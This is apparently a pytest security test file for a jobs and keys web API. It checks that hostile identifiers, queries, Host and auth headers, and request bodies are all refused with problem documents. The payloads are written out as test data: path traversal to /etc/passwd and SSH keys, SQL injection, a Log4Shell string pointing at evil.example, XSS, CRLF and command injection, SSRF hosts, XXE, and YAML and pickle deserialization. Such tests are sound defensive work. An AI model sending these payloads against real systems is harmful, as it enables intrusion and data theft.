"""Hostile paths, names, headers and bodies: each is refused with a problem document, none is a 2xx and none a 500."""

import gzip
import json

import pytest

TRAVERSALS = [
    "%2e%2e",
    "%2e%2e%2f%2e%2e",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%252e%252e",
    "%c0%ae%c0%ae%c0%af",
    "%uff0e%uff0e",
    "..%5c..%5cwindows",
    "..;%2f..;%2f",
    ".%00.%2f",
    "....%2f%2f....%2f%2f",
    "%2f%2fetc",
    "%2fetc%2fpasswd",
    "%2fproc%2fself%2fenviron",
    "file:%2f%2f%2fetc%2fpasswd",
    "~root",
    "%7e%2f.ssh%2fid_rsa",
    "C:%5cboot.ini",
    "%5c%5chost%5cshare",
    "CON",
    "nul%00",
    ".git%2fconfig",
    "%E2%80%A5%2f",
    "%EF%BC%8F..",
]
TEXTS = [
    "'%20OR%20'1'='1",
    "1;DROP%20TABLE%20jobs;--",
    "%22%20UNION%20SELECT%20digest%20FROM%20api_keys",
    "%24%7Bjndi:ldap:%2f%2fevil.example%2fa%7D",
    "%7B%7B7*7%7D%7D",
    "%3Cscript%3Ealert(1)%3C%2fscript%3E",
    "%0d%0aSet-Cookie:%20a=b",
    "%0aX-Injected:%201",
    "%00",
    "%ff%fe",
    "%f0%9f%a6%84",
    "%e2%80%ae%d7%90",
    "%ed%a0%80",
    "-1",
    "0",
    "NaN",
    "1e309",
    "null",
    "*",
    "%25",
    "%20",
    "%60id%60",
    "%24(id)",
    "a" * 4000,
    "9" * 400,
]


@pytest.fixture
def http(shared):
    """What is refused leaves no trace, so one server does for all."""
    before = shared.get("/v1/jobs").json()
    yield shared
    assert shared.get("/v1/jobs").json() == before


@pytest.fixture(scope="module")
def locked(share):
    """A server with a key that nobody tells the client."""
    return share(api_key="s3cret-of-this-server")


def refused(response, *statuses):
    """Whether a request was refused, in the form that all refusals have."""
    assert response.status_code in statuses, (response.status_code, response.text[:300])
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["status"] == response.status_code
    assert "Traceback" not in response.text
    assert "root:" not in response.text
    assert "set-cookie" not in response.headers
    assert "x-injected" not in response.headers
    return True


@pytest.mark.parametrize("id", TRAVERSALS + TEXTS)
def test_a_hostile_id_finds_nothing(http, id):
    for path in ("", "/events", "/generations", "/candidates", "/artifacts"):
        assert refused(http.get(f"/v1/jobs/{id}{path}"), 404), path
    for method, path in (("POST", "/cancel"), ("DELETE", "")):
        assert refused(http.request(method, f"/v1/jobs/{id}{path}"), 404, 405)
    for path in ("rotate", "revoke"):
        assert refused(http.post(f"/v1/keys/{id}/{path}", json={}), 404, 405)


@pytest.mark.parametrize("name", TRAVERSALS + TEXTS)
def test_a_hostile_name_is_no_artifact(shared_job, http, name):
    assert refused(http.get(f"/v1/jobs/{shared_job['id']}/artifacts/x/{name}"), 404)


@pytest.mark.parametrize(
    "query",
    [
        "limit=-1",
        "limit=1e3",
        "limit=0x10",
        "limit=99999999999999999999",
        "limit=10;DROP TABLE jobs",
        "limit[]=1",
        "limit=%00",
        "limit=501",
        "state='%20OR%201=1",
        "state=QUEUED",
        "state=queued%00",
        "label=novalue",
        "label=:x",
        "label=a%00:b",
        "label=a:b%00",
        "label=a:" + "x" * 500,
        "&".join(["label=a:b"] * 21),
        "after=../../jobs",
        "after=%00",
        "after=" + "x" * 101,
    ],
)
def test_a_hostile_query_is_named(http, query):
    assert refused(http.get(f"/v1/jobs?{query}"), 422)


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8765",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "evil.example#127.0.0.1",
        "evil.example@127.0.0.1",
        "127.0.0.1@evil.example",
        "127.0.0.1:8765:evil.example",
        "127.0.0.1,evil.example",
        "127.0.0.1 evil.example",
        "127.0.0.1/evil",
        "127.0.0.1?evil",
        "0.0.0.0",
        "169.254.169.254",
        "2130706433",
        "0x7f000001",
        "[::ffff:10.0.0.1]",
        "[::1",
        "localhost:port",
        "*",
        "",
        "a" * 300,
    ],
)
def test_a_foreign_host_is_served_nothing(http, spec, host):
    assert refused(http.get("/v1/jobs", headers={"Host": host}), 400)
    assert refused(http.post("/v1/jobs", json=spec, headers={"Host": host}), 400)


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": ""},
        {"Authorization": "Bearer"},
        {"Authorization": "Bearer "},
        {"Authorization": "Bearer null"},
        {"Authorization": "Bearer undefined"},
        {"Authorization": "Bearer admin"},
        {"Authorization": "Bearer *"},
        {"Authorization": "Bearer ' OR '1'='1"},
        {"Authorization": "Bearer s3cret-of-this-serve"},
        {"Authorization": "Bearer s3cret-of-this-server2"},
        {"Authorization": "Bearer S3CRET-OF-THIS-SERVER"},
        {"Authorization": "Bearer x, Bearer s3cret-of-this-server"},
        {"Authorization": "Basic czNjcmV0LW9mLXRoaXMtc2VydmVyOg=="},
        {"Authorization": "Digest s3cret-of-this-server"},
        {"Authorization": "s3cret-of-this-server"},
        {"Authorization": b"Bearer \xff\xfe"},
        {"Authorization": "Bearer rsk_000000000000_" + "A" * 43},
        {"Authorization": "Bearer " + "A" * 5000},
        {"X-API-Key": "s3cret-of-this-server"},
        {"Cookie": "Authorization=Bearer s3cret-of-this-server"},
        {"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1"},
        {"Forwarded": "for=127.0.0.1;host=localhost"},
        {"X-Forwarded-User": "admin", "X-Remote-User": "admin"},
        {"X-Original-URL": "/healthz", "X-Rewrite-URL": "/healthz"},
    ],
)
def test_no_header_stands_in_for_the_key(locked, headers):
    assert refused(locked.get("/v1/jobs", headers=headers), 401)
    assert refused(locked.get("/metrics", headers=headers), 401)
    assert refused(locked.post("/v1/keys", json={"owner": "eve", "scope": "admin"}, headers=headers), 401)


@pytest.mark.parametrize(
    "path",
    [
        "/v1/jobs?api_key=s3cret-of-this-server",
        "/v1/jobs?access_token=s3cret-of-this-server",
        "/v1//jobs",
        "/V1/JOBS",
        "/v1/jobs;a=b",
        "/healthz/../v1/jobs",
        "//v1/jobs",
    ],
)
def test_no_path_leads_around_the_key(locked, path):
    assert refused(locked.get(path), 401, 404)


@pytest.mark.parametrize(
    "header",
    [
        "X-HTTP-Method-Override",
        "X-Method-Override",
        "X-HTTP-Method",
    ],
)
def test_a_method_is_what_it_says(shared_job, http, header):
    assert http.get(f"/v1/jobs/{shared_job['id']}", headers={header: "DELETE"}).status_code == 200
    assert refused(http.post(f"/v1/jobs/{shared_job['id']}?_method=DELETE", headers={header: "DELETE"}), 405)
    assert http.get(f"/v1/jobs/{shared_job['id']}").json()["state"] == "succeeded"


@pytest.mark.parametrize(
    "method", ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "BREW"]
)
def test_a_strange_method_is_refused(http, method):
    assert refused(http.request(method, "/v1/jobs"), 405)


@pytest.mark.parametrize(
    "headers",
    [
        {"Idempotency-Key": ""},
        {"Idempotency-Key": "x" * 201},
        {"Content-Type": "text/plain"},
        {"Content-Type": "application/x-www-form-urlencoded"},
        {"Content-Type": "multipart/form-data; boundary=x"},
        {"Content-Type": "application/xml"},
        {"Content-Type": "application/x-yaml"},
        {"Content-Type": "application/x-python-pickle"},
        {"Content-Type": ""},
        {"Content-Type": "application/json-seq"},
        {"Content-Type": "text/html; application/json"},
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
    ],
)
def test_a_submission_with_hostile_headers_makes_no_job(http, spec, headers):
    response = http.post(
        "/v1/jobs", content=json.dumps(spec), headers={"Content-Type": "application/json", **headers}
    )

    assert refused(response, 403, 422)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" ",
        b"null",
        b"true",
        b"0",
        b"[]",
        b"[{}]",
        b"{}",
        b'"spec"',
        b"{",
        b"{]",
        b"{'name': 'a'}",
        b"{} {}",
        b'{"name": }',
        b'{"name": "a",}',
        b'{"name": "a"} trailing',
        b'{"name": "\x00"}',
        b'{"name": "\x1b[31m"}',
        b"\xff\xfe{\x00}\x00",
        b"\x00",
        b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.",
        b"PK\x03\x04" + b"\x00" * 64,
        gzip.compress(b'{"name": "a"}', mtime=0),
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        b"!!python/object/apply:os.system ['id']",
        b"!function os.system",
        b"name: a\nmodel: {path: m}\n",
        b"[" * 100_000,
        b'{"a":' * 50_000,
        b"[" * 100_000 + b"]" * 100_000,
        b'{"model":' * 900 + b"1" + b"}" * 900,
        b"9" * 10_000,
        b'{"search": {"seed": ' + b"9" * 5000 + b"}}",
        b'{"objective": {"kind": "max_drop", "points": NaN}}',
        b'{"objective": {"kind": "max_drop", "points": Infinity}}',
        b'{"objective": {"kind": "max_drop", "points": -Infinity}}',
        b'{"objective": {"kind": "max_drop", "points": 1e999}}',
        b'{"name": "\\ud800"}',
        b'{"\\ud800": 1}',
        b'{"labels": {"\\udfff": "x"}}',
        b'{"labels": {"x": "\\udfff"}}',
        b'{"__proto__": {"admin": true}}',
        b'{"__class__": "os.system"}',
        b'{"constructor": {"prototype": {}}}',
        b'{"$ref": "file:///etc/passwd"}',
        b'{"name": "' + b"a" * 1_000_000 + b'"}',
        b"{" + b",".join(b'"k%d": 1' % n for n in range(20_000)) + b"}",
    ],
    ids=lambda body: repr(body[:24]),
)
def test_a_hostile_body_makes_no_job(http, body):
    response = http.post("/v1/jobs", content=body, headers={"Content-Type": "application/json"})

    assert refused(response, 400, 413, 422)
    assert len(response.content) < 20_000


@pytest.mark.parametrize(
    ("place", "value"),
    [
        (("labels",), {"\ud800": "x"}),
        (("labels",), {"x": "\ud800"}),
        (("labels",), {str(n): "x" for n in range(101)}),
        (("name",), "x" * 201),
        (("name",), "fine\u202eeman"),
        (("name",), "fine\u2066"),
        (("name",), "a\u0000"),
        (("name",), "a\u2028b"),
        (("labels",), {"team\u202e": "x"}),
        (("labels",), {"team": "a\u0000"}),
        (("model", "path"), "\udfff"),
        (("model", "include"), ["*"] * 1001),
        (("model", "exclude"), ["\ud800"]),
        (("task", "prompt"), "x" * 100_001),
        (("task", "choices"), ["\ud800", "b"]),
        (("task", "choices"), [str(n) for n in range(10_001)]),
        (("task", "delimiter"), "x" * 100_001),
        (("task", "data", "source", "path"), "\ud800.csv"),
        (("owner",), "admin"),
        (("id",), "0" * 24),
        (("state",), "succeeded"),
        (("result",), {}),
    ],
)
def test_a_hostile_field_makes_no_job(http, spec, place, value):
    inner = spec
    for part in place[:-1]:
        inner = inner[part]
    inner[place[-1]] = value

    response = http.post("/v1/jobs", content=json.dumps(spec), headers={"Content-Type": "application/json"})

    assert refused(response, 422)


@pytest.mark.parametrize(
    "owner",
    [
        "",
        " ",
        "alice bob",
        "../alice",
        "alice/bob",
        "-alice",
        ".alice",
        "alice\n",
        "alice\u0000",
        "älice",
        "a" * 101,
        "' OR 1=1",
        "*",
        "admin",
        "Admin",
    ],
)
def test_a_hostile_owner_gets_no_key(http, owner):
    assert refused(http.post("/v1/keys", json={"owner": owner}), 422)
    assert http.get("/v1/keys").json()["keys"] == []
